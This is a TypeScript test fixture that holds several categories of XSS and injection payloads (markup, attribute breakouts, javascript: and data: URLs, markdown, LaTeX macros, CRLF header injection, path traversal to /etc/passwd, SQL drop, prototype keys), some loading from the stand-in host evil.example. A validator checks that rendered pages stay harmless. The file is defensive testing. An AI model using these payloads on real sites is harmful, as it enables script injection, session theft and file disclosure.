/**
 * What somebody may put into a name, a comment, a formula or a paper to make a page do what it should
 * not, and how a page is found to have withstood. Whoever shows the text of others tries all of it.
 */
import assert from 'node:assert/strict'

/** Markup where text is expected. */
const markup = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example></sCrIpT>',
  '<script\x0c>alert(1)</script>',
  '<<script>alert(1)//<</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x:x onerror&#61;alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert&lpar;1&rpar;</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">click</math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example>',
  '<style>@import "//evil.example"</style>',
  '<form action=//evil.example><button>Sign in</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">paper</a>',
  '<broadsheet-keys onfocus=alert(1) tabindex=0>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<plaintext>',
  '<!--',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '\u00BCscript\u00BEalert(1)\u00BC/script\u00BE',
  '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
]

/** Text that leaves the attribute it is put into. */
const attributes = [
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '" autofocus onfocus="alert(1)" x="',
  '`onmouseover=alert(1)',
  '" style="background:url(//evil.example)',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '"/onload=alert(1)//',
  '&quot; onmouseover=&quot;alert(1)',
  '&#34;&#62;<img src=x onerror=alert(1)>',
]

/** Addresses that are none. */
const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  'javascript://example.org/%0aalert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'blob:http://localhost/x',
  'file:///etc/passwd',
]

/** Markdown that hides an address or markup. */
const markdown = [
  ...addresses.map((address) => `[paper](${address})`),
  ...addresses.slice(0, 4).map((address) => `![figure](${address})`),
  '[paper](<javascript:alert(1)>)',
  '[paper][1]\n\n[1]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '[x](https://example.org "onmouseover=alert(1)")',
  '[x](https://example.org" onmouseover="alert(1))',
  '![x" onerror="alert(1)](https://example.org/x.png)',
  '```"><script>alert(1)</script>\ncode\n```',
  '``` html" onmouseover="alert(1)\ncode\n```',
  '`<script>alert(1)</script>`',
  '> <script>alert(1)</script>',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '# <svg onload=alert(1)>',
  '@ada" onmouseover="alert(1)',
  '[[x](javascript:alert(1))](https://example.org)',
]

/** Formulas that would be more. */
const formulas = [
  '$\\href{javascript:alert(1)}{x}$',
  '$\\url{javascript:alert(1)}$',
  '$\\includegraphics[alt={" onerror=alert(1)}]{x}$',
  '$\\htmlClass{" onmouseover="alert(1)}{x}$',
  '$\\htmlData{x="><script>alert(1)</script>}{x}$',
  '$\\class{"><img src=x onerror=alert(1)>}{x}$',
  '$\\style{background:url(//evil.example)}{x}$',
  '$\\text{<script>alert(1)</script>}$',
  '$\\text{</math><img src=x onerror=alert(1)>}$',
  '$<img src=x onerror=alert(1)>$',
  '$\\unicode{<script>alert(1)</script>}$',
  '$\\def\\x{\\x\\x}\\x$',
  `$${'{'.repeat(2000)}x${'}'.repeat(2000)}$`,
  `$${'\\frac{1}{'.repeat(500)}x${'}'.repeat(500)}$`,
  '$\\newcommand{\\a}{\\href{javascript:alert(1)}{b}}\\a$',
  '$$<script>alert(1)</script>$$',
  '\\(<script>alert(1)</script>\\)',
]

/** Text that turns, hides or breaks what stands around it. */
const letters = [
  '\u202Egnp.exe\u202C',
  '\u2066\u2067\u2068',
  'a\u0000b',
  'a\r\nSet-Cookie: evil=1',
  'a\r\nBcc: eve@example.org',
  '\uD800',
  '\u{1F469}\u200D\u{1F4BB}'.repeat(50),
  'Z\u0351\u036B\u0343\u036A\u0302\u036B'.repeat(30),
  'x'.repeat(5000),
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '../../../../etc/passwd',
  "'; drop table readers; --",
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty:valueOf',
]

export const attacks = { markup, attributes, addresses, markdown, formulas, letters } as const

/** Every one of them. */
export const allAttacks: readonly string[] = Object.values(attacks).flat()

const forbidden = new Set(
  'iframe object embed base style applet frame frameset plaintext'.split(' '),
)
const addressed = new Set(
  'href src action formaction data xlink:href poster srcset ping'.split(' '),
)

/** Fails if a page of ours could run, load or send anything that is not ours. */
export function assertHarmless(html: string, where = 'the page'): void {
  for (const { name, attributes: given } of tagsIn(html)) {
    const says = `${where}: <${name} ${[...given].map((pair) => pair.join('=')).join(' ')}>`
    assert.ok(!forbidden.has(name), says)
    // What is no script but a description of the page is not run.
    const isScript = name === 'script' && given.get('type') !== 'application/ld+json'
    if (isScript) assert.match(given.get('src') ?? '', /^\/(assets|labs)\//, says)
    if (name === 'link') assert.match(given.get('href') ?? '', /^(\/|https?:\/\/localhost)/, says)
    if (name === 'meta') assert.notEqual(given.get('http-equiv'), 'refresh', says)
    if (name === 'form') assert.match(given.get('action') ?? '/', /^\/(?!\/)/, says)
    for (const [attribute, value] of given) {
      assert.doesNotMatch(attribute, /^on|^style$|^srcdoc$/, says)
      if (!addressed.has(attribute)) continue
      // Browsers leave spaces and controls out of an address.
      const address = decoded(value)
        .replace(/[\s\p{Cc}]/gu, '')
        .toLowerCase()
      assert.doesNotMatch(address, /^(javascript|vbscript|data|blob|file):/, says)
    }
  }
}

type Tag = { readonly name: string; readonly attributes: ReadonlyMap<string, string> }

/** The tags of a page as a browser reads them (HTML, 13.2.5), but for what scripts hold. */
function tagsIn(html: string): Tag[] {
  const tags: Tag[] = []
  const shape = /<!--[\s\S]*?-->|<([a-z][^\s/>]*)((?:[^>"']|"[^"]*"|'[^']*')*)>/gi
  for (const [, name, rest = ''] of html.matchAll(shape)) {
    if (name === undefined) continue
    const given = new Map<string, string>()
    const pairs = /([^\s=/"'>][^\s=/>]*)(?:\s*=\s*("[^"]*"|'[^']*'|[^\s>]*))?/g
    for (const [, attribute = '', value = ''] of rest.matchAll(pairs)) {
      given.set(attribute.toLowerCase(), value.replace(/^["']|["']$/g, ''))
    }
    tags.push({ name: name.toLowerCase(), attributes: given })
  }
  return tags
}

const decoded = (value: string) =>
  value
    .replace(/&#x([0-9a-f]+);?/gi, (_, code: string) => String.fromCodePoint(parseInt(code, 16)))
    .replace(/&#(\d+);?/g, (_, code: string) => String.fromCodePoint(Number(code)))
    .replace(/&colon;/gi, ':')
    .replace(/&tab;|&newline;/gi, '')
    .replace(/&quot;/gi, '"')
    .replace(/&amp;/gi, '&')
